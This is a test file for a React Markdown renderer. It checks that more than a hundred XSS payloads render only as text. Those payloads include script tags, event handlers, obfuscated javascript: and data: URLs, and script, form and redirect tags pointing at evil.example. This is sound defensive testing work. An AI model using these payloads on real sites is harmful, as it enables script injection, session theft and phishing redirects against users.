import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { MarkdownText } from './markdown-text.tsx'

const render = (text: string) => renderToStaticMarkup(createElement(MarkdownText, { text }))
/** What a reader sees. */
const textOf = (html: string) =>
  html
    .replaceAll(/<[^>]+>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&amp;', '&')
const own = /^<\/?(?:div|p|strong|em|ul|ol|li|h3|hr|br|bdi|blockquote|a)(?: (?:class|start|href|target|rel)="[^"<>]*")*\/?>$/
const tagsIn = (html: string) => html.match(/<[^>]*>/g) ?? []
const linksIn = (html: string) => [...html.matchAll(/href="([^"]*)"/g)].map(([, address]) => address)

const events = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle', 'onanimationstart', 'onbegin']
const tags = ['img', 'svg', 'body', 'iframe', 'video', 'details', 'input', 'math', 'object', 'embed', 'marquee', 'template', 'style']
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'javascript&#58;alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://example.org/x',
  'file:///etc/passwd',
  'http://example.org/',
  '//example.org/',
  '/mobile/pages/login/login',
  'ftp://example.org',
  'intent://scan/#Intent;scheme=zxing;end',
  'https://bank.example@evil.example/',
  'view-source:https://example.org',
  'about:blank',
  '#x',
  '?x',
]
/** Not one of these may become anything but text. */
const hostile = [
  ...tags.flatMap((tag, i) => [
    `<${tag} ${events[i % events.length]}=alert(1)>`,
    `<${tag} src=x ${events[(i + 3) % events.length]}="alert(1)"/>`,
  ]),
  ...addresses.flatMap((address) => [`[tap](${address})`, `[tap](<${address}>)`, `![picture](${address})`]),
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="javascript:alert(1)">tap</a>',
  '<javascript:alert(1)>',
  '[tap]: javascript:alert(1)\n\n[tap]',
  '[tap][1]\n\n[1]: javascript:alert(1) "title"',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '[<img src=x onerror=alert(1)>](https://example.org)',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202e<script>alert(1)</script>\u202c',
  '\u2066\u202eevil.example\u2069',
  '😀𠮷<b>𝓫</b>',
  '\u0000<script>alert(1)</script>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><button>tap</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example>',
]

describe('text in Markdown', () => {
  it('shows what the programme writes: headings, paragraphs, lists, strong, links', () => {
    const html = render(
      '### Hours\n\nOpen **every** day.\n\n- one\n- two\n\n3. three\n\n[Site](https://example.org/a?b=1) [Call](tel:+6565362692) [Mail](mailto:a@example.org)',
    )
    expect(textOf(html)).toBe('HoursOpen every day.onetwothreeSite Call Mail')
    expect(linksIn(html)).toEqual(['https://example.org/a?b=1', 'tel:+6565362692', 'mailto:a@example.org'])
    for (const tag of ['<h3', '<strong>every</strong>', '<ul', '<ol start="3"']) expect(html).toContain(tag)
  })

  it('makes nothing but text of a hundred payloads and more', () => {
    const wrong = hostile.filter((text) => {
      const html = render(text)
      const isLink = (address = '') => /^(https|tel|mailto):/.test(address) && !address.includes('@evil')
      return !tagsIn(html).every((tag) => own.test(tag)) || !linksIn(html).every(isLink) || textOf(html).trim() === ''
    })
    expect(hostile.length).toBeGreaterThanOrEqual(100)
    expect(wrong).toEqual([])
  })

  it.each(['<', '>', '[', '![', '*', '_', '> ', '- ', '`', '(', '&', '\\', '| ', '<a ', '**a ', '[a](', '#', '\u202e'])(
    'shows thousands of %j in good time',
    (mark) => {
      const start = performance.now()
      expect(render(mark.repeat(3000))).not.toBe('')
      expect(performance.now() - start).toBeLessThan(3000)
    },
  )
})
